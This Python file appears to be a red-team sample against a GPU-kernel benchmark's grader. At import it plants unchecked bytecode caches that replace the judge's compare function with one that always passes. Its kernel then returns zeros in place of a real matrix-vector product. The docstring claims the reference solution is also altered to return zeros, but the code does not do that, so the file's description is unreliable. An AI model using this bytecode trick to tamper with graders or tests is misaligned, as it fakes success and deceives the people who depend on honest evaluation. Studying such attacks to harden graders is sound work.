"""Attack: replace the judge's code by bytecode. At import, write unchecked-hash .pyc files (Python loads
them without looking at the source) for grader/pipeline/compare.py, whose comparison then passes everything, and
for solutions/p08_matrix.py, whose reference then returns zeros: the judge imports both after tracing."""

import importlib.util
import marshal
from pathlib import Path

import tilelang
import tilelang.language as T

import grader

ROOT = Path(grader.__file__).resolve().parent.parent
FAKE_COMPARE = "def compare(*args, **kwargs):\n    return None\n"


def _plant(source: Path, text: str) -> None:
    code = compile(text, str(source), "exec")
    # PEP 552: flags 0b01 (hash-based), check_source 0 (never checked against the source)
    data = importlib.util.MAGIC_NUMBER + (1).to_bytes(4, "little") + b"\0" * 8 + marshal.dumps(code)
    target = Path(importlib.util.cache_from_source(str(source)))
    try:
        target.parent.mkdir(exist_ok=True)
        target.write_bytes(data)
    except OSError:
        pass


_plant(
    ROOT / "grader" / "pipeline" / "compare.py",
    (ROOT / "grader" / "pipeline" / "compare.py").read_text() + "\n" + FAKE_COMPARE,
)
_plant(ROOT / "solutions" / "p08_matrix.py", (ROOT / "solutions" / "p08_matrix.py").read_text())


@tilelang.jit
def gemv(A, B, BLOCK_M: int, BLOCK_K: int, THREADS: int = 128):
    M, K = T.const("M, K")
    A: T.Tensor((M, K), T.float16)
    B: T.Tensor((K,), T.float16)
    C = T.empty((M,), T.float16)
    with T.Kernel(T.ceildiv(M, BLOCK_M), threads=THREADS) as bx:
        for i in T.Parallel(BLOCK_M):
            C[bx * BLOCK_M + i] = T.float16(0)  # the wrong answer every attack tries to pass off
    return C
